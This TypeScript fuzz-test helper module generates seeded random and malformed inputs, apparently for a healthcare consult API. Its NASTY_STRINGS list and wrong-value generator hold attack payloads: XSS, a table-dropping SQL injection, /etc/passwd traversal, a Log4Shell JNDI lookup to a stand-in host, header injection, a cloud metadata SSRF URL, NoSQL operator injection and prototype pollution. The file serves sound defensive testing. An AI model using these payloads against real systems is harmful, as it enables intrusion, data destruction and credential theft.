// Random values for the fuzz suite, all drawn from one seeded generator so a failing run reproduces.
export type Rng = () => number;

export const int = (rng: Rng, min: number, max: number): number => min + Math.floor(rng() * (max - min + 1));
export const pick = <T>(rng: Rng, items: readonly T[]): T => items[Math.floor(rng() * items.length)] as T;
export const chance = (rng: Rng, p: number): boolean => rng() < p;

/** A UUID v4 made from the generator (not crypto): reproducible idempotency keys. */
export function seededUuid(rng: Rng): string {
  const hex = Array.from({ length: 32 }, () => int(rng, 0, 15).toString(16));
  hex[12] = '4';
  hex[16] = pick(rng, ['8', '9', 'a', 'b']);
  const s = hex.join('');
  return `${s.slice(0, 8)}-${s.slice(8, 12)}-${s.slice(12, 16)}-${s.slice(16, 20)}-${s.slice(20)}`;
}

const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  'null',
  'undefined',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE consults; --",
  '../../../etc/passwd',
  '%2e%2e%2f%2e%2e%2f',
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  '\u202eevil\u202c',
  '\u200b\u200c\u200d\ufeff',
  '\ud800',
  '\udfff\ud800',
  '😀'.repeat(50),
  'Z̴̡̛̗͓a̵̧͝l̶g̸o̴',
  '\r\nX-Injected: 1',
  'Patient/patient-harold-whitfield',
  'urn:uuid:00000000-0000-0000-0000-000000000000',
  'http://169.254.169.254/latest/meta-data/',
  'a'.repeat(65),
];

/** A string meant to break something: control characters, markup, traversal, lone surrogates, long runs. */
export function nastyString(rng: Rng): string {
  if (chance(rng, 0.2)) {
    return String.fromCharCode(...Array.from({ length: int(rng, 1, 40) }, () => int(rng, 0, 0xffff)));
  }
  return pick(rng, NASTY_STRINGS);
}

/** A string of `length` characters, repeated from a seed alphabet (huge strings without huge generation cost). */
export function longString(rng: Rng, length: number): string {
  const unit = pick(rng, ['x', 'é', '😀', '<a>', '\\u0000', ' ']);
  return unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
}

/** A value of the wrong type for any field. */
export function wrongValue(rng: Rng): unknown {
  return pick<() => unknown>(rng, [
    () => null,
    () => true,
    () => int(rng, -1e9, 1e9),
    () => 1e308 * 10,
    () => -0,
    () => 1.5,
    () => [],
    () => [nastyString(rng)],
    () => ({}),
    () => ({ $ne: null }),
    () => ({ __proto__: { polluted: true } }),
    () => nastyString(rng),
  ])();
}

/** JSON text nested `depth` levels deep, built as text (a deep object would overflow our own stack first). */
export function deepJson(rng: Rng, depth: number): string {
  const [open, close] = chance(rng, 0.5) ? ['[', ']'] : ['{"a":', '}'];
  return `${open.repeat(depth)}${chance(rng, 0.5) ? '1' : '"x"'}${close.repeat(depth)}`;
}

/** Any JSON value, a few levels deep. */
export function randomJson(rng: Rng, depth = 0): unknown {
  if (depth > 3 || chance(rng, 0.4)) {
    return wrongValue(rng);
  }
  if (chance(rng, 0.5)) {
    return Array.from({ length: int(rng, 0, 4) }, () => randomJson(rng, depth + 1));
  }
  return Object.fromEntries(Array.from({ length: int(rng, 0, 4) }, () => [pick(rng, ['idempotencyKey', 'target', 'question', 'shared', 'resourceType', nastyString(rng)]), randomJson(rng, depth + 1)]));
}

/** Bytes that are not valid UTF-8 or not JSON at all. */
export function garbageBytes(rng: Rng): Uint8Array<ArrayBuffer> {
  return Uint8Array.from({ length: int(rng, 1, 2_000) }, () => int(rng, 0, 255));
}
